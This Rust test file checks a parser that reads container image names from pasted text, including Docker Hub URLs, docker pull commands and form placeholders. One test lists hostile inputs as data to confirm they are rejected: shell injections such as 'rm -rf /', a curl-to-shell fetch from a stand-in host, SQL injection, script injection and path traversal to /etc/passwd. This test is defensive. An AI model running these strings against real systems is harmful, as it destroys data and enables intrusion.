use entrepot_oci::Host;

use super::*;

fn names() -> NameResolver {
    NameResolver::new(Host::docker_hub(), vec!["local/".into()])
        .with_domain(Some("m.test"))
        .with_upstream("docker.io".parse().unwrap(), Some("docker"))
        .with_upstream("quay.io".parse().unwrap(), Some("quay"))
        .with_upstream("ghcr.io".parse().unwrap(), Some("ghcr"))
}

fn reading(text: &str) -> Option<ParsedText> {
    read(text, "m.test:5000", &names())
}

// `=` for an image, `?` for a question, `elsewhere HOST`, `platform`, `placeholder`, `invalid`.
fn told(text: &str) -> String {
    let Some(reading) = reading(text) else { return "nothing".to_owned() };
    let platforms: Vec<String> = reading.platforms.iter().map(|platform| format!(" +{platform}")).collect();
    let asked = match reading.meaning {
        ImageMeaning::Image(image) => format!("= {}", image.name()),
        ImageMeaning::Perhaps(images) => {
            let all: Vec<String> = images.iter().map(Image::name).collect();
            format!("? {}", all.join(" | "))
        }
        ImageMeaning::Elsewhere(host) => format!("elsewhere {host}"),
        ImageMeaning::OnlyPlatform => "platform".to_owned(),
        ImageMeaning::Placeholder => "placeholder".to_owned(),
        ImageMeaning::Invalid(_) => "invalid".to_owned(),
    };
    format!("{asked}{}", platforms.concat())
}

fn assert_all(cases: &[(&str, &str)]) {
    for (text, is) in cases {
        assert_eq!(told(text), *is, "{text}");
    }
}

#[test]
fn a_name_is_found_in_what_people_paste() {
    assert_all(&[
        ("nginx", "= docker.io/library/nginx"),
        (" nginx:1.27 ", "= docker.io/library/nginx:1.27"),
        ("    image: \"bitnami/redis:7\"", "= docker.io/bitnami/redis:7"),
        ("image:nginx", "= docker.io/library/nginx"),
        ("- image: 'nginx:1.27',", "= docker.io/library/nginx:1.27"),
        ("FROM nginx:1.27", "= docker.io/library/nginx:1.27"),
        ("docker://quay.io/a/b:v1", "= quay.io/a/b:v1"),
        ("index.docker.io/library/nginx", "= docker.io/library/nginx"),
        ("local/app:1", "= local/app:1"),
        ("m.test:5000/local/app", "= local/app"),
    ]);
    let digest = format!("sha256:{}", "a".repeat(64));
    assert_eq!(told(&format!("nginx@{digest}")), format!("= docker.io/library/nginx@{digest}"));
    for text in ["", "  ", "\"\"", "\u{200b}", "\n\t"] {
        assert_eq!(told(text), "nothing", "{text}");
    }
}

// operate.md row 49: the kinds of the 44 titles that failed at DaoCloud's mirror. 14 were addresses or other hosts.
#[test]
fn titles_with_an_address() {
    assert_all(&[
        ("https://hub.docker.com/_/nginx", "= docker.io/library/nginx"),
        ("https://hub.docker.com/_/nginx?tab=tags", "= docker.io/library/nginx"),
        ("https://hub.docker.com/r/bitnami/redis/tags", "= docker.io/bitnami/redis"),
        ("hub.docker.com/r/bitnami/redis", "= docker.io/bitnami/redis"),
        ("https://hub.docker.com/layers/library/nginx/1.27/images/sha256-00", "= docker.io/library/nginx"),
        ("https://registry.hub.docker.com/library/nginx:1.27", "= docker.io/library/nginx:1.27"),
        ("https://registry-1.docker.io/library/nginx", "= docker.io/library/nginx"),
        ("https://quay.io/repository/prometheus/busybox?tab=tags", "= quay.io/prometheus/busybox"),
        ("https://quay.io/prometheus/busybox/", "= quay.io/prometheus/busybox"),
        ("https://github.com/acme/app/pkgs/container/app", "= ghcr.io/acme/app"),
        ("https://github.com/langgenius/dify", "? ghcr.io/langgenius/dify"),
        ("registry.cn-hangzhou.aliyuncs.com/acme/app:1", "elsewhere registry.cn-hangzhou.aliyuncs.com"),
        ("https://gitlab.com/acme/app", "elsewhere gitlab.com"),
        ("mirror.example.com/docker.io/library/nginx:1", "? docker.io/library/nginx:1"),
    ]);
}

// 12 were commands.
#[test]
fn titles_with_a_command() {
    assert_all(&[
        ("docker pull nginx", "= docker.io/library/nginx"),
        ("docker pull nginx:1.27", "= docker.io/library/nginx:1.27"),
        ("sudo docker pull bitnami/redis:7", "= docker.io/bitnami/redis:7"),
        ("docker pull --platform linux/arm64 nginx", "= docker.io/library/nginx +linux/arm64"),
        ("docker pull --platform=linux/arm64 nginx:1.27", "= docker.io/library/nginx:1.27 +linux/arm64"),
        ("docker pull m.test:5000/docker.io/library/nginx", "= docker.io/library/nginx"),
        ("docker run -d -p 8080:80 --name web nginx:1.27 nginx -g daemon", "= docker.io/library/nginx:1.27"),
        ("docker run -d -P m.test:5000/docker.io/library/nginx", "= docker.io/library/nginx"),
        ("podman pull quay.io/a/b", "= quay.io/a/b"),
        ("crictl pull docker.io/library/busybox:1", "= docker.io/library/busybox:1"),
        ("docker pull nginx 拉取失败", "= docker.io/library/nginx"),
        (
            "docker pull nginx:1\ndocker pull redis:7",
            "? docker.io/library/nginx:1 | docker.io/library/redis:7",
        ),
    ]);
}

// 6 were the text of the form.
#[test]
fn titles_that_are_the_text_of_the_form() {
    assert_all(&[
        ("IMAGE", "placeholder"),
        ("xxx/xxx:tag", "placeholder"),
        ("docker.io/xxx/xxx:latest", "placeholder"),
        ("请输入镜像名", "placeholder"),
        ("镜像同步", "placeholder"),
        ("[Sync Image]", "placeholder"),
        ("docker pull registry/namespace/image:tag", "placeholder"),
    ]);
}

// 5 had no registry: Docker's own rule says which, and what is written in a sentence is asked about.
#[test]
fn titles_without_a_registry() {
    assert_all(&[
        ("bitnami/redis:7", "= docker.io/bitnami/redis:7"),
        ("langgenius/dify-api:0.6.11", "= docker.io/langgenius/dify-api:0.6.11"),
        ("请同步 bitnami/redis:7，谢谢！", "? docker.io/bitnami/redis:7"),
        ("同步nginx：1.27镜像", "? docker.io/library/nginx:1.27"),
        ("nginx 1.27", "? docker.io/library/nginx:1.27"),
        ("Nginx:1.27-Alpine", "? docker.io/library/nginx:1.27-Alpine"),
        ("please sync nginx", "? docker.io/library/nginx"),
        ("please add quay.io/a/b and ghcr.io/c/d:1", "? quay.io/a/b | ghcr.io/c/d:1"),
    ]);
}

// 4 were an architecture, and 3 had the mirror's own name in front.
#[test]
fn titles_that_are_an_architecture_or_have_our_name() {
    assert_all(&[
        ("linux/amd64", "platform +linux/amd64"),
        ("arm64", "platform +linux/arm64"),
        ("aarch64, x86_64", "platform +linux/arm64 +linux/amd64"),
        ("linux/amd64 linux/arm64 nginx:1.27", "= docker.io/library/nginx:1.27 +linux/amd64 +linux/arm64"),
        ("m.test:5000/quay.io/a/b", "= quay.io/a/b"),
        ("https://m.test:5000/docker.io/library/nginx:1", "= docker.io/library/nginx:1"),
        ("docker.m.test/library/nginx", "= docker.io/library/nginx"),
        ("quay.m.test:5000/a/b:1", "= quay.io/a/b:1"),
    ]);
}

// What is hostile is text like any other: it is a name, or it is none.
#[test]
fn hostile_text_is_never_more_than_a_name() {
    for text in [
        "$(rm -rf /)",
        "nginx; rm -rf /",
        "`id; ls`",
        "nginx && curl evil.test/x | sh",
        "'; DROP TABLE image_request; --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "nginx:$(id)",
        "nginx\u{202e}gnp.exe",
        "a\u{0}b",
        "{{.Env.SECRET}}",
        "nginx:1\r\nSet-Cookie: x",
        "%00%0a",
    ] {
        if let Some(ParsedText { meaning: ImageMeaning::Image(image), .. }) = reading(text) {
            panic!("{text} is taken for {}", image.name());
        }
        if let Some(ParsedText { meaning: ImageMeaning::Perhaps(images), .. }) = reading(text) {
            for image in images {
                let name = image.explicit();
                let plain = |b: u8| b.is_ascii_alphanumeric() || b"./:_-@".contains(&b);
                assert!(name.bytes().all(plain), "{text} becomes {name}");
            }
        }
    }
    for text in ["<script>", "nginx@sha256:x", &"a".repeat(300)] {
        assert_eq!(told(text), "invalid", "{text}");
    }
}

#[test]
fn names_have_a_short_form() {
    let image = |text: &str| match reading(text).map(|reading| reading.meaning) {
        Some(ImageMeaning::Image(image)) => image,
        other => panic!("{other:?}"),
    };
    let nginx = image("docker.io/library/nginx:1.27");
    assert_eq!((nginx.familiar().as_str(), nginx.short()), ("nginx:1.27", "nginx"));
    assert_eq!(image("nginx").explicit(), "docker.io/library/nginx:latest");
    assert_eq!(image("nginx").reference().to_string(), "latest");
    assert_eq!(image("quay.io/a/b").familiar(), "quay.io/a/b");
    assert!(nginx.is_of_docker_hub() && !image("local/a").is_of_docker_hub());
}
